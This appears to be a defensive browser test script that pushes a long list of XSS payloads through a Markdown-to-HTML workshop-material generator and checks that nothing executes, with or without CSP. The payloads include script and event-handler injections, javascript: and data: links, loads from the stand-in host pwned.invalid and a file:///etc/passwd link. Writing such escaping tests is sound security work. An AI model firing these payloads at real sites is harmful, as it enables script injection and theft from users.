// Material that somebody wrote to break out of it, in a real browser.
//
// usage, in a folder with node_modules (puppeteer-core): node hostile.mjs TECHCAMP
//
// Each of VECTORS tries to set `window.pwned`, to open a dialog or to fetch something. Each is the body of a session, the title of a
// part and of everything else that a line can stand in, and all fields of the session's head. What the program makes of it is opened
// twice: as it is, and without its Content Security Policy, so that escaping alone must hold. Nothing may run, be asked for or be kept
// from by the policy; there are no elements, attributes and addresses but those listed here. Before that a page is broken on purpose
// in each of these ways, which must be told. Exit 1 when there is a fault.
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { EVENT, NO_PLAN, camp } from "./camp.mjs";
import { each, fileOf, inBrowser, watched } from "./chromium.mjs";

const RUN = "window.pwned=1;alert(1)";
const FAR = "https://pwned.invalid/a";
const VECTORS = [
  // Elements
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<script src="${FAR}.js"></script>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\<script>${RUN}\\</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</pre></code></article><script>${RUN}</script>`,
  `</textarea></noscript></template><script>${RUN}</script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>"></noscript>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${FAR}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${FAR}.swf">`,
  `<form action="javascript:${RUN}"><input type="submit" autofocus onfocus="${RUN}"></form>`,
  `<button formaction="javascript:${RUN}" autofocus onfocus="${RUN}">a</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>a</select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}><summary>a</summary></details>`,
  `<marquee onstart=${RUN}>a</marquee>`,
  `<video src=x onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`,
  `<video><source onerror="${RUN}" src="${FAR}"></video>`,
  `<base href="https://pwned.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=${FAR}">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<link rel="stylesheet" href="${FAR}.css">`,
  `<link rel="prefetch" href="${FAR}"><link rel="dns-prefetch" href="//pwned.invalid">`,
  `<style>@import "${FAR}.css";</style>`,
  `<style>body { background: url(${FAR}.png) }</style>`,
  `<p style="background:url(${FAR}.png)">a</p>`,
  `<table background="${FAR}.png"><tr><td background="${FAR}.png">a</table>`,
  `<frameset onload=${RUN}><frame src="${FAR}"></frameset>`,
  `<body onload=${RUN}>`,
  `<html onmouseover=${RUN}>`,
  `<dialog open onclose=${RUN}>a</dialog>`,
  `<template><script>${RUN}</script></template>`,
  `<x onclick=${RUN} tabindex=1 id=x autofocus onfocus=${RUN}>a</x>`,
  `<a name="pwned" id="pwned">a</a>`,
  `<portal src="${FAR}"></portal><applet code="a" codebase="${FAR}"></applet>`,
  // Attributes and handlers
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x onerror\n=\n"${RUN}">`,
  `<img src=\`x\` onerror=\`${RUN}\`>`,
  `<img src="${FAR}.png" srcset="${FAR}2.png 2x" loading=eager>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  // SVG and MathML
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">a</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:parent.${RUN}"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><image href="${FAR}.png" onerror="${RUN}"/></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">a</maction></math>`,
  // Comments and other brackets
  `<!--><script>${RUN}</script>-->`,
  `<!---><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<!-- a`,
  `a <!-- <img src=x onerror=${RUN}>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?php echo "<img src=x onerror=${RUN}>" ?>`,
  `<!DOCTYPE html><img src=x onerror=${RUN}>`,
  // Links
  `[a](javascript:${RUN})`,
  `[a](JaVaScRiPt:${RUN})`,
  `[a](<javascript:${RUN}>)`,
  `[a](< javascript:${RUN}>)`,
  `[a](&#106;avascript:${RUN})`,
  `[a](&#x6A;&#x61;vascript&colon;${RUN})`,
  `[a](java&Tab;script:${RUN})`,
  `[a](java&NewLine;script:${RUN})`,
  `[a](&#1;javascript:${RUN})`,
  `[a](\u00a0javascript:${RUN})`,
  `[a](\u200bjavascript:${RUN})`,
  `[a](javascript\u2236${RUN})`,
  `[a](java%0ascript:${RUN})`,
  `[a](javascript://example.org/%0a${RUN})`,
  `[a](j\\avascript:${RUN})`,
  `[a](\\javascript:${RUN})`,
  `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[a](vbscript:msgbox)`,
  `[a](VBSCRIPT&colon;msgbox)`,
  `[a](file:///etc/passwd)`,
  `[a](blob:${FAR})`,
  `[a](view-source:javascript:${RUN})`,
  `[a](//pwned.invalid/a)`,
  `[a](\\\\pwned.invalid\\a)`,
  `[a](https://user:word@pwned.invalid/)`,
  `[a](https://example.org/"onmouseover="${RUN})`,
  `[a](https://example.org/ '" onmouseover="${RUN}')`,
  `[a](https://example.org/ "'><img src=x onerror=${RUN}>")`,
  `[a](mailto:a@example.org?body="><script>${RUN}</script>)`,
  `[<img src=x onerror=${RUN}>](https://example.org/)`,
  `[![a](javascript:${RUN})](javascript:${RUN})`,
  `[a][b]\n\n[b]: javascript:${RUN}`,
  `[a][b]\n\n[b]: <javascript:${RUN}> "<script>${RUN}</script>"`,
  `[a]\n\n[A]: data:text/html,<script>${RUN}</script>`,
  `<javascript:${RUN}>`,
  `<JAVASCRIPT:${RUN}>`,
  `<https://example.org/"onmouseover="${RUN}>`,
  `<a"onmouseover="${RUN}@example.org>`,
  `<a href="javascript:${RUN}" ping="${FAR}" autofocus onfocus="${RUN}">a</a>`,
  // Pictures
  `![a](javascript:${RUN})`,
  `![a](${FAR}.png)`,
  `![" onerror="${RUN}](x)`,
  `![a](x "onerror=${RUN}")`,
  `![a](data:image/svg+xml,<svg/onload=${RUN}>)`,
  `![a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![<img src=x onerror=${RUN}>](x)`,
  // Code
  `\`<img src=x onerror=${RUN}>\``,
  `\`\`a\`<script>${RUN}</script>\`\``,
  `\`</code><script>${RUN}</script>\``,
  `\`\`\`<script>${RUN}</script>\na\n\`\`\``,
  `\`\`\`html" onmouseover="${RUN}\n</pre><script>${RUN}</script>\n\`\`\``,
  `~~~ {.a onclick=${RUN}}\n</pre><img src=x onerror=${RUN}>\n~~~`,
  `    </pre><script>${RUN}</script>`,
  `\`\`\`material <img src=x onerror=${RUN}>\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`frame 20 <img src=x onerror=${RUN}>\na\n\`\`\``,
  `\`\`\`fold <img src=x onerror=${RUN}>\n[a](javascript:${RUN})\n\`\`\``,
  `\`\`\`bars\n| <img src=x onerror=${RUN}> | b |\n|---|---|\n| <script>${RUN}</script> | 1"><script>${RUN}</script> |\n\`\`\``,
  // The rest of Markdown
  `# <img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>\n===`,
  `> <script>${RUN}</script>`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `1. <svg onload=${RUN}>`,
  `**<script>*${RUN}*</script>**`,
  `| <script>${RUN}</script> | "><img src=x onerror=${RUN}> |\n|---|---|\n| <svg onload=${RUN}> | [a](javascript:${RUN}) |`,
  `a[^<img src=x onerror=${RUN}>]\n\n[^<img src=x onerror=${RUN}>]: <script>${RUN}</script>`,
  `a[^a]\n\n[^a]: <script>${RUN}</script> [b](javascript:${RUN})`,
  `<b>a</b>\n: <script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{% raw %}<script>${RUN}</script>{% endraw %} {{ item | safe }} \${${RUN}}`,
  `[a]{onclick=${RUN}} {: onclick="${RUN}"}`,
  `\u202e<script>${RUN}</script>\u2066`,
  `\u0001<\u0001script>${RUN}</script>`,
  `<\u0000script>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u2028<script>${RUN}</script>\u2029`,
];

/// What may stand in a page.
const KNOWN = {
  elements:
    "html head meta title style body header main footer nav article section h1 h2 h3 h4 h5 p ul ol li a bdi strong em code pre br hr " +
    "blockquote details summary table caption thead tbody tr th td div span",
  attributes: "lang dir charset http-equiv content name class id href rel scope data-label start style",
  // In the bars that we draw.
  drawn: "svg rect",
  drawnAttributes: "viewBox preserveAspectRatio aria-hidden width height",
  address: "^(https?://|mailto:|tel:|#|[^:/?#\\\\]+([/?#]|$))",
  style: "^(min-)?height: \\d+mm$",
  // How often, at the most: our template's.
  once: { title: 1, style: 1, meta: 4 },
};

/// In the page: what stands in it that may not.
function strange(known) {
  const found = [];
  if (window.pwned !== undefined) found.push("window.pwned is set");
  for (const [name, count] of Object.entries(known.once)) {
    if (document.querySelectorAll(name).length > count) found.push(`another <${name}>`);
  }
  const has = (list, name) => list.split(" ").includes(name);
  for (const node of document.querySelectorAll("*")) {
    const isDrawn = has(known.drawn, node.localName) && node.closest("table.bars") !== null;
    if (!isDrawn && !has(known.elements, node.localName)) found.push(`<${node.localName}>`);
    for (const { name, value } of node.attributes) {
      if (!has(isDrawn ? known.drawnAttributes : known.attributes, name)) {
        found.push(`<${node.localName} ${name}="${value.slice(0, 60)}">`);
      }
      if (name === "href" && !new RegExp(known.address, "i").test(value)) found.push(`link to ${value.slice(0, 60)}`);
      if (name === "style" && !new RegExp(known.style).test(value)) found.push(`style ${value.slice(0, 60)}`);
    }
  }
  return found;
}

const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>\n/;

/// Faults of a file as it is and without its policy. `written` is where the second is put.
async function both(page, path, written) {
  const text = readFileSync(path, "utf8");
  if (!POLICY.test(text)) return ["has no policy"];
  writeFileSync(written, text.replace(POLICY, ""));
  const faults = async (path) => {
    const { told, seen } = await page.open(path, strange, KNOWN);
    return [...told, ...seen];
  };
  return [...(await faults(path)), ...(await faults(written)).map((fault) => `without its policy: ${fault}`)];
}

/// What a page is broken by, and what must be told of it.
const BROKEN = {
  [`<script>window.pwned = 1</script>`]: ["without its policy: window.pwned is set", "is kept from", "<script>"],
  [`<script>alert(1)</script>`]: ["without its policy: opens a dialog"],
  [`<img src="x" onerror="window.pwned = 1">`]: ["asks for", "<img onerror", "without its policy: runs a script"],
  [`<a href="javascript:a">a</a>`]: ["link to javascript:a"],
  [`<style>@import "${FAR}.css";</style>`]: ["without its policy: asks for", "another <style>"],
  [`<iframe srcdoc="a"></iframe>`]: ["<iframe>"],
  [`<svg onload="window.pwned = 1"></svg>`]: ["<svg>", "without its policy: window.pwned is set"],
  [`<p style="color: red">a</p>`]: ["style color"],
  [`<meta http-equiv="refresh" content="99;url=${FAR}">`]: ["another <meta>"],
};

async function selfTest(page, good, folder) {
  const text = readFileSync(good, "utf8");
  const blind = [];
  for (const [at, [broken, words]] of Object.entries(BROKEN).entries()) {
    const path = join(folder, `broken-${at}.html`);
    writeFileSync(path, text.replace("</article>", `${broken}</article>`));
    const told = await both(page, path, join(folder, `broken-${at}.bare.html`)).catch((error) => [error.message]);
    const missed = words.filter((word) => !told.some((fault) => fault.includes(word)));
    blind.push(...missed.map((word) => `not told: ${word} of ${broken}: ${told}`));
  }
  return blind;
}

const line = (vector) => vector.replace(/[\n\u2028\u2029]/g, " ");
const head = (vector, name) => {
  const text = JSON.stringify(vector.replace("\u0000", ""));
  const titled = JSON.stringify(`${name} ${vector.replace("\u0000", "")}`);
  return (
    `+++\ntitle = ${titled}\ngoal = ${text}\nprerequisites = ${text}\ninstalls = ${text}\nequipment = [${text}]\n` +
    `supplies = [${text}]\nlicence = ${text}\nauthors = [${text}]\n+++\n`
  );
};
/// Everything that holds one line.
function parts(vector) {
  const one = line(vector);
  const body = `${one}\n\n- ${one}\n\n## ${one}\n\n| ${one} | b |\n|---|---|\n| c | ${one} |\n:::\n`;
  const names = ["step 5-10", "exercise 5", "discussion 5", "slide", "trainer"];
  return names.map((name) => `::: ${name} ${one}\n${body}`).join("\n");
}

/// Writes each session as the first of its bodies that no rule about marks refuses, and tells which that was.
function written(event, all) {
  const tried = new Map(Object.keys(all).map((id) => [id, 0]));
  Object.entries(all).forEach(([id, bodies]) => event.write(`sessions/${id}.md`, bodies[0]));
  for (;;) {
    const { problems } = JSON.parse(event.techcamp(["material", "check", event.folder, "--json"]));
    const blocks = problems.filter(({ severity }) => severity === "block");
    if (!blocks.length) return tried;
    const strange = blocks.find(({ rule }) => rule !== "material-part");
    if (strange) throw new Error(`refused: ${JSON.stringify(strange)}`);
    for (const id of new Set(blocks.map(({ file }) => file.slice("sessions/".length, -".md".length)))) {
      tried.set(id, tried.get(id) + 1);
      const body = all[id][tried.get(id)];
      if (!body) throw new Error(`all of ${id} is refused: ${all[id][0]}`);
      event.write(`sessions/${id}.md`, body);
    }
  }
}

/// What `techcamp build` writes; a refusal is no package.
function built(event, into, ...words) {
  const told = JSON.parse(event.techcamp(["build", event.folder, "--out", into, "--json", ...words]));
  const block = told.problems.find(({ severity }) => severity === "block");
  if (block) throw new Error(`refused: ${block.what}`);
}

/// How many sessions hold all vectors that may stand in parts, in an event that gives them rooms and times.
const TOGETHER = 4;

async function main(browser, folder, alone, together) {
  alone.write("event.toml", EVENT + NO_PLAN);
  const bodies = VECTORS.map((vector, at) => {
    const variants = [`${vector}\n\n${parts(vector)}`, `${vector}\n`, parts(vector), `${line(vector)}\n`];
    return [`v-${at}`, variants.map((body) => head(vector, `Number ${at}`) + body)];
  });
  const tried = written(alone, Object.fromEntries(bodies));
  for (const document of ["handout", "slides"]) built(alone, join(folder, document), "--only", document);

  together.write("event.toml", EVENT);
  const whole = VECTORS.filter((_, at) => tried.get(`v-${at}`) === 0);
  for (let at = 0; at < TOGETHER; at += 1) {
    const own = whole.filter((_, other) => other % TOGETHER === at);
    together.write(`sessions/t-${at}.md`, head(own[0], `Number ${at}`) + own.map(parts).join("\n"));
  }
  built(together, join(folder, "package"));

  const pages = readdirSync(folder, { recursive: true }).filter((path) => path.endsWith(".html"));
  const guides = pages.filter((path) => path.includes("trainer-guide")).length;
  const handouts = pages.filter((path) => path.startsWith("handout")).length;
  if (handouts < VECTORS.length - 5 || guides < TOGETHER) throw new Error(`only ${handouts} hand-outs and ${guides} guides`);
  const bare = join(folder, "bare");
  mkdirSync(bare);
  const page = await watched(browser);
  const faults = await selfTest(page, join(folder, pages.find((path) => path.startsWith("handout"))), bare);
  await page.close();
  await each(pages.entries(), () => watched(browser), async ([at, path], page) => {
    const told = await both(page, join(folder, path), join(bare, `${at}.html`));
    faults.push(...told.map((fault) => `${path}: ${fault}`));
  });
  faults.forEach((fault) => console.log(fault));
  const kinds = Object.keys(BROKEN).length;
  const told = `${VECTORS.length} vectors, ${whole.length} of them in every place, in ${pages.length} pages`;
  console.log(`${told}, each with its policy and without, ${faults.length} faults; ${kinds} broken pages, each told`);
  return faults.length ? 1 : 0;
}

const folder = mkdtempSync(join(tmpdir(), "hostile-"));
const [alone, together] = [camp(process.argv[2]), camp(process.argv[2])];
try {
  process.exitCode = await inBrowser((browser) => main(browser, folder, alone, together));
} finally {
  [alone, together].forEach((event) => event.remove("."));
  if (!process.env.KEEP) rmSync(folder, { recursive: true });
}
